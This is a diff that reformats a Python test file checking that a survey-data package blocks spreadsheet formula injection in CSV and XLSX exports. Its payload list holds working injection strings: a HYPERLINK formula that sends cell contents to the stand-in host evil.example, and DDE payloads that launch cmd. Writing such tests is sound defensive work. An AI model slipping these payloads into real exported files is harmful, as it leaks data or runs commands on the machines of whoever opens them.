@@ -1,4 +1,5 @@
 """Formula injection (issue 12): input text never becomes a spreadsheet formula in CSV or XLSX."""
+
 from __future__ import annotations
 
 import csv
@@ -13,8 +14,13 @@ from assetinv.safe_tables import FORMULA_TRIGGERS, neutralise_frame
 
 openpyxl = pytest.importorskip("openpyxl")
 
-PAYLOADS = ['=HYPERLINK("http://evil.example/x?"&A1,"Click")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
-            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1 tab first"]
+PAYLOADS = [
+    '=HYPERLINK("http://evil.example/x?"&A1,"Click")',
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1 tab first",
+]
 
 
 @pytest.fixture(scope="module")
@@ -22,8 +28,9 @@ def rendered(tmp_path_factory) -> Path:
     from assetinv.simulate import write_sample
 
     d = tmp_path_factory.mktemp("inject") / "data"
-    write_sample(d, seed=11, n_schools=3, n_districts=1, respondents_per_school=9, waves=("baseline",),
-                 n_interviews=6)
+    write_sample(
+        d, seed=11, n_schools=3, n_districts=1, respondents_per_school=9, waves=("baseline",), n_interviews=6
+    )
     cod = pd.read_csv(d / "codings.csv", dtype=str, keep_default_na=False)
     ex = sorted(cod["excerpt_id"].unique())
     payload = {e: PAYLOADS[i % len(PAYLOADS)] + " we plan labs together" for i, e in enumerate(ex)}
